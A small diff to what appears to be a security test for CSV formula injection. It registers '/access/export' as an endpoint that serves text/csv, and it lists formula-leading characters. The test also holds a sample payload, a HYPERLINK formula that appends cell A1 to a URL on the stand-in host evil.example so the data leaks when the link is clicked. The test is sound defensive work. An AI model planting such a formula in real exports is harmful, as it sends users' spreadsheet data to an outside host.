@@ -17,7 +17,7 @@ from tests.security.test_table import address, give_roles
 BEGINS = tuple("=+-@\t\r\n|％＝＋－＠")
 NUMBER = re.compile(r"[+-]?[0-9]+([.,][0-9]+)?")
 # The addresses that answer with text/csv. One that is not here fails the test, and so does one that is gone.
-OFFERED: set[str] = set()
+OFFERED: set[str] = {"/access/export"}
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
 
 
